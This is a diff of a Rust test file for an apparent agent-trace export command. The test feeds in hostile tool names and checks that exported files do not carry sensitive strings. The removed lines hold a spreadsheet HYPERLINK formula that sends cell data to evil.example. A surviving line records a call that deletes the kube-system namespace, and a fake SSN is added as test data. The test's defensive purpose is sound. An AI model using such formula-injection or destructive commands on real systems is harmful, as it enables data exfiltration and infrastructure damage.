@@ -13,12 +13,14 @@ fn recorded() -> Project {
     search(&mut desk);
     desk.call("run_script", json!({ "script_name": "delete_namespace", "namespace": "kube-system", "args": [] }));
     desk.call(FORMULA, json!({}));
+    desk.call(TEXT, json!({}));
     drop(desk);
     project
 }
 
-/// The name of a tool that an agent asks for.
-const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+/// The names of tools that an agent asks for: of the form of one, and of none.
+const FORMULA: &str = "-2-3.A1";
+const TEXT: &str = "my ssn is 123-45-6789";
 
 fn export(project: &Project, format: &str, more: &[&str]) -> Output {
     let mut args = vec!["trace", "export", "--as", format, format];
@@ -39,7 +41,8 @@ fn other_peoples_programs_read_what_is_written() {
         let output = export(&project, format, &[]);
         assert_eq!(output.code, 0, "{output:?}");
         let bytes = fs::read(project.root().join(format)).expect("a file");
-        assert!(!String::from_utf8_lossy(&bytes).contains(WORDS), "{format}");
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(!text.contains(WORDS) && !text.contains("123-45"), "{format}");
     }
     let checked = python("check_exports.py", &[&project.root().display().to_string()]);
     assert_eq!(checked.code, 0, "{checked:?}");
